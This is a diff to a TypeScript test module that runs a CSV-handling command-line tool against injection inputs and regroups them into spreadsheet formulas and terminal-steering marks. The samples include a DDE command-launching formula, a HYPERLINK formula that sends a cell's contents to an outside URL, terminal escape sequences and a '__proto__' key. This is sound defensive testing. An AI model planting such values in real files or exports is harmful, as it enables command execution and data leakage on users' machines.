@@ -4,8 +4,8 @@ import { parse } from 'csv-parse/sync';
 import type { Ground, HostileCommand } from './hostile-commands.ts';
 import { isLiveFormula } from './telltale.ts';
 
-/** Text that would run in a spreadsheet, steer a terminal, or pass for something else. */
-const injections: Readonly<Record<string, string>> = {
+/** Text that would run in a spreadsheet. */
+const formulas: Readonly<Record<string, string>> = {
   formula: "=cmd|' /C calc'!A0",
   'formula behind a blank': ' =1+1',
   'formula behind a tab': '\t=1+1',
@@ -14,6 +14,10 @@ const injections: Readonly<Record<string, string>> = {
   'formula with minus': '-1+cmd',
   'formula in wide signs': '＝1+1',
   'link formula': '=HYPERLINK("http://x/?"&A1,"ok")',
+};
+
+/** Text that would steer a terminal, or pass for something else. */
+const marks: Readonly<Record<string, string>> = {
   'escape sequence': 'Amina\u001b[2J\u001b[31m Otieno',
   'escape by one sign': 'Amina\u009b2J Otieno',
   'window title': 'Amina\u001b]0;owned\u0007 Otieno',
@@ -28,9 +32,13 @@ const injections: Readonly<Record<string, string>> = {
   prototype: '__proto__',
 };
 
+export const formulaCommands = Object.entries(formulas).map(injecting);
+
+export const markCommands = Object.entries(marks).map(injecting);
+
 /** The text in every column of a row, beside a sound one; paid, and the results looked at as a spreadsheet would. */
-export const injectionCommands: readonly HostileCommand[] = Object.entries(injections).map(
-  ([name, text]) => ({
+function injecting([name, text]: [string, string]): HostileCommand {
+  return {
     name: `injection: ${name}`,
     prepare: ({ here }) => writeFileSync(join(here, 'inject.csv'), fileWith(text)),
     args: () => [
@@ -47,8 +55,8 @@ export const injectionCommands: readonly HostileCommand[] = Object.entries(injec
     ],
     exits: [0, 3, 65],
     judge: (ground) => judgeResults(ground),
-  }),
-);
+  };
+}
 
 const columns = [
   'paymentId',
